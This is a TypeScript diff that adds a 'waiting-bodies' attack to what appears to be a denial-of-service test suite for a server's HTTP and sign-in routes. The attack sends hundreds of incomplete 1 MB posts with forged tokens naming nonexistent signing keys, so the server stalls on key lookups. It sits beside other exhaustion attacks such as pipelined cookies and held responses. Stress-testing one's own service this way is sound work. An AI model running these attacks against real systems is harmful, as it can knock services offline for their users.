@@ -1,5 +1,6 @@
+import { randomUUID } from 'node:crypto';
 import { setTimeout as sleep } from 'node:timers/promises';
-import { type Aim, type Attack, type Outgoing, quickly, toBytes } from './aim.ts';
+import { type Aim, type Attack, type Outgoing, quickly, times, toBytes } from './aim.ts';
 
 const kilobyte = 1024;
 
@@ -75,6 +76,14 @@ async function drip(
   clearInterval(sending);
 }
 
+const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
+
+/** A token of the server's issuer that names a signing key which does not exist, so that its check waits for the keys. */
+function toUnknownKey({ token }: Aim): string {
+  const { iss } = JSON.parse(Buffer.from(token.split('.')[1]!, 'base64url').toString()) as { iss: string };
+  return `${encode({ alg: 'EdDSA', kid: randomUUID() })}.${encode({ iss })}.AAAA`;
+}
+
 /** Attacks on HTTP, and on the routes of the sign-in. */
 export const wireAttacks = {
   'marked-urls': {
@@ -119,6 +128,21 @@ export const wireAttacks = {
   'pipelined-cookies': {
     title: `${burst} calls with 600 cookies of a session in one write, every ${burstSeconds} s, anonymous`,
     run: pipeline({ path: '/trpc/user.me', headers: { cookie: sessionChunks } }),
+  },
+  'waiting-bodies': {
+    title: '490 posts of 1 MB without the last byte at once, with tokens of unknown keys, then 9/s, anonymous',
+    async run(aim) {
+      const length = 1024 * 1024;
+      const body = Buffer.alloc(length - 1, ' ');
+      const toPost = () => {
+        const headers = { authorization: `Bearer ${toUnknownKey(aim)}` };
+        return toBytes({ path: '/trpc/task.createMany', headers, body, length });
+      };
+      const sockets = times(490, () => aim.open().resume());
+      await sleep(300);
+      for (const socket of sockets) socket.write(toPost());
+      await aim.repeat(quickly, () => aim.open(toPost()).resume());
+    },
   },
   // The memory grows until the streams end after 9 minutes.
   'held-responses': {
